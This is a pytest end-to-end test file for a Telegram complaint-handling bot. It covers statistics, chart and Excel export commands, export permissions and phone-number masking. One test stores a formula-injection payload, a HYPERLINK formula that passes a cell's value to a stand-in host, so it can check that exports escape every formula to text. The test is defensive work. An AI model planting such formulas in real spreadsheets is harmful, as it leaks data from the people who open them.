"""/stats, /chart and /export end to end: the real bot, the loopback Bot API, files uploaded from
outbox rows and downloaded back through getFile."""

from __future__ import annotations

import asyncio
import datetime as dt
import io

import pytest_asyncio

from bot import texts
from bot.clock import Clock
from bot.models import Light, Outbox, OutboxStatus, Status
from tests.e2e import (
    COMMAND_CHAT, COMMANDER, COMMUNITY_NHJ1_CHAT, GRID_NHJ1_01_CHAT, WORKER_NHJ1_01, start_harness,
)
from tests.test_e2e_intake import submit_report
from tests.test_e2e_workflow import CHENGGUAN_STAFF, COMMUNITY_STAFF, STREET_MIAOQIAN_CHAT
from tests.phone import too_wide_rows
from tests.test_stats import local, ticket

UTC = dt.timezone.utc
# The bot's clock runs from Friday 20 November 2026, 10:00 in Taiyuan, so "this month" is fixed.
START = dt.datetime(2026, 11, 20, 2, 0, tzinfo=UTC)
PNG = b"\x89PNG\r\n\x1a\n"


@pytest_asyncio.fixture
async def h(db, db_url, sandbox):
    harness = await start_harness(sandbox, db_url, clock=Clock(offset=START - dt.datetime.now(UTC)))
    try:
        yield harness
    finally:
        await harness.bot.stop()


async def some_tickets(h) -> str:
    """One report through the bot, one closed 满意 ticket and one red one: all in 南海街一社区第一网格."""
    number = await submit_report(h, h.resident(), "南海街1号院楼下早餐店油烟太大")
    await ticket("nanhaijie1-01", filed=local(3), status=Status.CLOSED,
                 accepted=local(3) + dt.timedelta(minutes=25), resolved=local(4), closed=local(5), rating="satisfied")
    await ticket("nanhaijie1-01", filed=local(5), light=Light.RED)
    return number


async def download(h, file_id: str) -> bytes:
    """getFile, then the file URL: what a Telegram client does to open it."""
    file = await h.bot.app.bot.get_file(file_id)
    return bytes(await file.download_as_bytearray())


def has(*words):
    return lambda m: all(w in (m.get("text") or m.get("caption") or "") for w in words)


async def test_stats_in_a_community_chat(h):
    await some_tickets(h)
    staff = h.staff(COMMUNITY_STAFF, "梁淑芬")
    await h.api.send_text(staff, "/stats", chat_id=COMMUNITY_NHJ1_CHAT)
    reply = await h.api.wait_for_bot_message(COMMUNITY_NHJ1_CHAT, has("📊【南海街一社区】2026年11月"))
    text = reply["text"]
    assert "受理 3 件｜办结 1 件" in text and "关闭 1 件" in text and "办结率 33.3%" in text
    assert "满意率 100%" in text and "当前在办 2 件（🟡0 🔴1）" in text and "油烟异味" in text
    assert "【南海街一社区第一网格】\n受理 3｜办结 1｜办结率 33.3%\n按期办结率 100%｜满意率 100%\n" in text
    assert "【南海街一社区第二网格】\n受理 0｜办结 0｜办结率 —" in text and texts.STATS_FOOTNOTE in text
    # a phone's width: no row of figures wraps; accepted 25 minutes after filing reads in minutes
    assert too_wide_rows(text) == [] and "平均接单 25 分钟｜办结 24 小时" in text

    await h.api.send_text(staff, "/stats week", chat_id=COMMUNITY_NHJ1_CHAT)
    week = await h.api.wait_for_bot_message(COMMUNITY_NHJ1_CHAT, has("本周（11月16日至11月22日）"))
    assert "受理 1 件" in week["text"]  # only the report filed today; the others are older
    await h.api.send_text(staff, "/stats 2026-13", chat_id=COMMUNITY_NHJ1_CHAT)
    bad = await h.api.wait_for_bot_message(COMMUNITY_NHJ1_CHAT)
    assert bad["text"] == texts.STATS_BAD_PERIOD.format(spec="2026-13")

    # in private: the staff member's own unit, and nobody says "unknown command"
    await h.api.send_text(staff, "/stats")
    mine = await h.api.wait_for_bot_message(staff.id, has("📊【南海街一社区】"))
    assert mine is not None
    await h.drain()
    assert not [m for m in h.api.bot_messages(staff.id) if m.get("text") == texts.UNKNOWN_COMMAND]

    resident = h.resident()
    await h.api.send_text(resident, "/stats")
    assert (await h.api.wait_for_bot_message(resident.id))["text"] == texts.NOT_STAFF


async def test_chart_arrives_as_a_photo(h):
    await some_tickets(h)
    await h.api.send_text(h.staff(COMMANDER, "冯晓燕"), "/chart", chat_id=COMMAND_CHAT)
    message = await h.api.wait_for_bot_message(COMMAND_CHAT, lambda m: "photo" in m)
    assert message["caption"] == texts.CHART_CAPTION.format(
        unit="迎泽区", period="近30天（10月22日至11月20日）", received=3, resolved=1)
    biggest = max(message["photo"], key=lambda size: size["width"])
    assert biggest["width"] >= 900
    png = await download(h, biggest["file_id"])
    assert png.startswith(PNG) and len(png) > 10_000
    await h.drain()
    row = await Outbox.get(chat_id=COMMAND_CHAT, file_kind="photo")
    assert row.status == OutboxStatus.SENT and row.file_data is None  # the bytes are dropped once sent


async def test_export_arrives_as_a_workbook(h):
    from openpyxl import load_workbook

    await some_tickets(h)
    await h.api.send_text(h.staff(COMMANDER, "冯晓燕"), "/export month", chat_id=COMMAND_CHAT)
    message = await h.api.wait_for_bot_message(COMMAND_CHAT, lambda m: "document" in m)
    assert message["document"]["file_name"] == "gridbot-yingze-2026-11.xlsx"
    assert "考核表" in message["caption"]
    book = load_workbook(io.BytesIO(await download(h, message["document"]["file_id"])))
    assert book.sheetnames == ["说明", "街道", "社区", "网格", "部门", "红灯工单", "网格员考核"]
    header, first = list(book["网格"].iter_rows(max_row=2, values_only=True))
    row = dict(zip(header, first))
    assert (row["排名"], row["单位"], row["受理量"], row["办结量"], row["满意"]) == (1, "南海街一社区第一网格", 3, 1, 1)

    staff = h.staff(COMMUNITY_STAFF, "梁淑芬")
    await h.api.send_text(staff, "/export 2026-11", chat_id=COMMUNITY_NHJ1_CHAT)
    message = await h.api.wait_for_bot_message(COMMUNITY_NHJ1_CHAT, lambda m: "document" in m)
    book = load_workbook(io.BytesIO(await download(h, message["document"]["file_id"])))
    assert [r[1] for r in book["社区"].iter_rows(min_row=2, values_only=True)] == ["南海街一社区"]
    assert book["街道"].max_row == 1


async def test_export_is_for_managers_of_the_unit_only(h):
    resident = h.resident()
    await h.api.send_text(resident, "/export")
    assert (await h.api.wait_for_bot_message(resident.id))["text"] == texts.NOT_STAFF
    worker = h.staff(WORKER_NHJ1_01, "张丽")
    await h.api.send_text(worker, "/export", chat_id=GRID_NHJ1_01_CHAT)
    assert (await h.api.wait_for_bot_message(GRID_NHJ1_01_CHAT))["text"] == texts.EXPORT_ONLY_MANAGERS
    await h.api.send_text(worker, "/export")  # in private too
    assert (await h.api.wait_for_bot_message(worker.id))["text"] == texts.EXPORT_ONLY_MANAGERS
    officer = h.staff(CHENGGUAN_STAFF, "史振华")
    await h.api.send_text(officer, "/export")
    assert (await h.api.wait_for_bot_message(officer.id))["text"] == texts.EXPORT_ONLY_MANAGERS
    community = h.staff(COMMUNITY_STAFF, "梁淑芬")
    await h.api.send_text(community, "/export", chat_id=STREET_MIAOQIAN_CHAT)  # the street above her
    assert (await h.api.wait_for_bot_message(STREET_MIAOQIAN_CHAT))["text"] == texts.EXPORT_NOT_YOUR_UNIT
    await h.drain()
    assert not await Outbox.filter(file_kind__isnull=False).exists()


async def test_a_written_explanation_typed_as_a_formula_stays_text_in_every_workbook(h, db_url, monkeypatch, tmp_path):
    """A 书面说明 starting with = (or + - @, tab, full-width ＝) would run as a formula when the
    manager opens /export or `gridbot export`: every cell arrives as text, and the resident's
    phone number written into it is masked."""
    from openpyxl import load_workbook

    from bot import cli
    from tests.test_e2e_sla import run_sweep_now

    number = await submit_report(h, h.resident(), "南海街1号院楼下早餐店油烟太大")
    h.rt.clock.advance(dt.timedelta(hours=72))
    run_sweep_now(h)
    await h.api.wait_for_bot_message(GRID_NHJ1_01_CHAT, has("🔴", number))
    worker = h.staff(WORKER_NHJ1_01, "张丽")
    await h.api.send_text(worker, f"/explain {number}", chat_id=GRID_NHJ1_01_CHAT)
    prompt = await h.api.wait_for_bot_message(GRID_NHJ1_01_CHAT, has("请回复本消息"))
    why = '=HYPERLINK("http://x.example/?"&A2,"点我")&"居民电话13800138000"'
    await h.api.send_text(worker, why, chat_id=GRID_NHJ1_01_CHAT, reply_to=prompt)
    await h.api.wait_for_bot_message(GRID_NHJ1_01_CHAT, has(texts.SLA_EXPLAINED.format(number=number)))
    copy = await h.api.wait_for_bot_message(COMMAND_CHAT, lambda m: (m.get("text") or "").startswith("📝"))
    assert "13800138000" not in copy["text"] and "138****8000" in copy["text"]  # the command centre's copy

    await h.api.send_text(h.staff(COMMANDER, "冯晓燕"), "/export month", chat_id=COMMAND_CHAT)
    message = await h.api.wait_for_bot_message(COMMAND_CHAT, lambda m: "document" in m)
    sent = load_workbook(io.BytesIO(await download(h, message["document"]["file_id"])))
    monkeypatch.setenv("DATABASE_URL", db_url)
    out = tmp_path / "export.xlsx"
    assert await asyncio.to_thread(cli.main, ["export", "--month", "2026-11", str(out)]) == 0
    for book in (sent, load_workbook(out)):
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
        reds = list(book["红灯工单"].iter_rows(values_only=True))
        row = dict(zip(reds[0], reds[1]))
        assert row["工单号"] == number
        assert row["书面说明"] == "'" + why.replace("13800138000", "138****8000")


def test_every_formula_start_becomes_text():
    from bot.figures import cells

    for start in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " ="):
        assert cells.safe(start + "1+1") == "'" + start + "1+1"
    assert [cells.safe(v) for v in ("油烟", "3号楼", "", 12, -3, 0.5, None)] == ["油烟", "3号楼", "", 12, -3, 0.5, None]
